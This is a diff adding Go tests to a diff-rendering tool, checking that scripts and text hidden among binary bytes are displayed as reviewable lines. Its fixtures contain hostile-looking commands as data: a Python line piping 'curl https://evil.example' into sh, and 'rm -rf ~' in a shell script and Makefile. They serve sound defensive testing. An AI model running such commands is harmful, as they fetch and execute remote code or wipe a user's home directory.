@@ -320,3 +320,53 @@ func FuzzCompute(f *testing.F) {
 		}
 	})
 }
+
+// BEY-03: what could be run, or is text but for a little, is shown as lines.
+func TestBinary_BEY03(t *testing.T) {
+	junk := []byte(strings.Repeat("\x00\x01\x02\x03", 500))
+	script := "import os\nos.system('curl https://evil.example | sh')\n"
+	random := make([]byte, 1<<16)
+	_, _ = rand.NewChaCha8([32]byte{}).Read(random)
+	for _, tt := range []struct {
+		name, file string
+		content    []byte
+		binary     bool
+	}{
+		{"text", "x", []byte(script), false},
+		{"text with an odd line", "x", []byte(script + "#\x01\x02\x03\x04\x05\x06\n"), false},
+		{"a script, by its name", "x.py", append([]byte(script), junk...), false},
+		{"a script, by its first line", "x", append([]byte("#!/bin/sh\nrm -rf ~\nexit\n"), junk...), false},
+		{"a recipe", "Makefile", append([]byte("all:\n\trm -rf ~\n"), junk...), false},
+		{"junk", "x", junk, true},
+		{"a program", "x", append([]byte("\x7fELF\x00\x00\x00\x01\n"), junk...), true},
+		{"a picture", "x.png", random, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			created := Compute(t.Context(), File{Path: tt.file, After: tt.content}, Limits{})
+			if created.Binary != tt.binary || created.Unseen() != tt.binary {
+				t.Errorf("binary %v, unseen %v", created.Binary, created.Unseen())
+			}
+			gone := Compute(t.Context(), File{Path: tt.file, Before: tt.content}, Limits{})
+			if gone.Binary != tt.binary || gone.Unseen() {
+				t.Errorf("deleted: binary %v, unseen %v", gone.Binary, gone.Unseen())
+			}
+		})
+	}
+}
+
+// BEY-03: text in the place of binary content is shown, and isn't left out by
+// halves (BEY-06).
+func TestTextInPlaceOfBinary_BEY03(t *testing.T) {
+	junk := []byte(strings.Repeat("\x00\x01\x02", 50))
+	d := Compute(t.Context(), File{Path: "x", Before: junk, After: []byte("rm -rf ~\n")}, Limits{})
+	rows := strings.Join(d.Rows(RenderOptions{Width: 80}), "\n")
+	if d.Binary || d.Unseen() || !strings.Contains(rows, "! replaces binary content: 150 B sha256") || !strings.Contains(rows, "1 + rm -rf ~") {
+		t.Errorf("binary %v:\n%s", d.Binary, rows)
+	}
+	if got := d.Apply(func(int) bool { return false }); !bytes.Equal(got, junk) {
+		t.Errorf("with nothing kept it is %q", got)
+	}
+	if got := d.Apply(func(int) bool { return true }); string(got) != "rm -rf ~\n" {
+		t.Errorf("with all of it kept it is %q", got)
+	}
+}
